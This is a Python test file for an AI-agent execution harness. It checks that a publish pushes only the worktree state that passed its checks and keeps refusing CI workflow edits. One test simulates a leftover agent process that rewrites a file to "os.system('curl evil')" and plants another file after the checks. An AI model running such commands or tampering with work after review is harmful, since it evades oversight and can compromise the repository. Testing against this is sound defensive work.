"""The publish commits what the last iteration imported after its checks, without walking the worktree a
second time: a file written after the checks (by a process the agent left behind) is never pushed, the
refusals by path still hold, and an import this host does not hold is made again from the worktree."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from paid_executor import run_workspace
from paid_executor.repo_config import RepoConfig
from paid_executor.repository_cache import RepositoryCache
from paid_executor.run_workspace import RunWorkspace
from paid_executor.worktree_import import ImportedChange, import_worktree, recommit

from .conftest import git
from .test_worker_release import run_context, settings_in


@pytest.fixture
async def workspace(tmp_path: Path) -> tuple[RunWorkspace, str]:
    """A run's host repository over the base and the agent's copy of it, as prepare_workspace leaves them."""
    source = tmp_path / "source"
    source.mkdir()
    git(source, "init", "--quiet", "--initial-branch=main")
    (source / "calc.py").write_text("x = 1\n")
    git(source, "add", "-A")
    git(source, "commit", "--quiet", "-m", "base")
    prepared = RunWorkspace(settings_in(tmp_path), run_context(1))
    mirrored = await RepositoryCache(tmp_path / "cache", max_bytes=10**9).refresh(str(source), "main")
    await prepared.host.attach_base(mirrored.mirror, mirrored.base_sha)
    await prepared.host.check_out(
        prepared.paths.worktree, "paid/issue-1", public_url="https://example.invalid/r"
    )
    return prepared, mirrored.base_sha


@pytest.fixture
def imports(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """The worktrees the run's workspace imports from here on."""
    walked: list[Path] = []

    async def counted(host: Any, worktree: Path, **options: Any) -> ImportedChange:
        walked.append(worktree)
        return await import_worktree(host, worktree, **options)

    monkeypatch.setattr(run_workspace, "import_worktree", counted)
    return walked


async def test_the_publish_pushes_what_was_checked_and_walks_the_worktree_once(
    workspace: tuple[RunWorkspace, str], imports: list[Path]
) -> None:
    run, base = workspace
    worktree = run.paths.worktree
    (worktree / "calc.py").write_text("x = 2\n")
    checked = await run.import_change(base, "iteration 1", RepoConfig())
    # After the checks: a process the agent left running rewrites a file and plants another.
    (worktree / "calc.py").write_text("import os; os.system('curl evil')\n")
    (worktree / "planted.py").write_text("print('not checked')\n")

    published = await run.publishable_change(checked.commit, base, "Fix #1: add()", RepoConfig())

    assert imports == [worktree], "the publish walked the worktree again"
    assert published.commit != checked.commit
    assert published.changed_files == ("calc.py",)
    assert published.refused == ()
    assert git(run.paths.host_git, "show", f"{published.commit}:calc.py") == "x = 2\n"
    assert git(run.paths.host_git, "rev-parse", f"{published.commit}^{{tree}}") == git(
        run.paths.host_git, "rev-parse", f"{checked.commit}^{{tree}}"
    )
    assert git(run.paths.host_git, "log", "-1", "--format=%P%n%B", published.commit).split("\n")[:2] == [
        base,
        "Fix #1: add()",
    ]


@pytest.mark.parametrize("checked", ["", "0" * 40, "--all", "base", "on-top"])
async def test_an_import_not_held_on_the_base_is_made_again_from_the_worktree(
    workspace: tuple[RunWorkspace, str], imports: list[Path], checked: str
) -> None:
    """A run moved to this host (its iteration's import is elsewhere), a history recorded before imports
    were kept (""), or anything that is not one commit on the base."""
    run, base = workspace
    (run.paths.worktree / "calc.py").write_text("x = 3\n")
    if checked == "base":
        checked = base
    elif checked == "on-top":
        first = await run.import_change(base, "iteration 1", RepoConfig())
        checked = await run.host.commit_tree(
            git(run.paths.host_git, "rev-parse", f"{first.commit}^{{tree}}").strip(), (first.commit,), "x"
        )
    imports.clear()
    assert await recommit(run.host, checked, base=base, message="m", allow_workflow_changes=False) is None

    published = await run.publishable_change(checked, base, "Fix #1", RepoConfig())

    assert imports == [run.paths.worktree]
    assert git(run.paths.host_git, "show", f"{published.commit}:calc.py") == "x = 3\n"


async def test_the_publish_still_refuses_workflow_changes(
    workspace: tuple[RunWorkspace, str], imports: list[Path]
) -> None:
    run, base = workspace
    workflows = run.paths.worktree / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "ci.yml").write_text("on: push\n")
    checked = await run.import_change(base, "iteration 1", RepoConfig(allow_workflow_changes=True))

    published = await run.publishable_change(checked.commit, base, "Fix #1", RepoConfig())

    assert len(imports) == 1
    assert published.refused == (
        ".github/workflows/ci.yml (CI workflows change only where .paid.yml sets allow_workflow_changes)",
    )
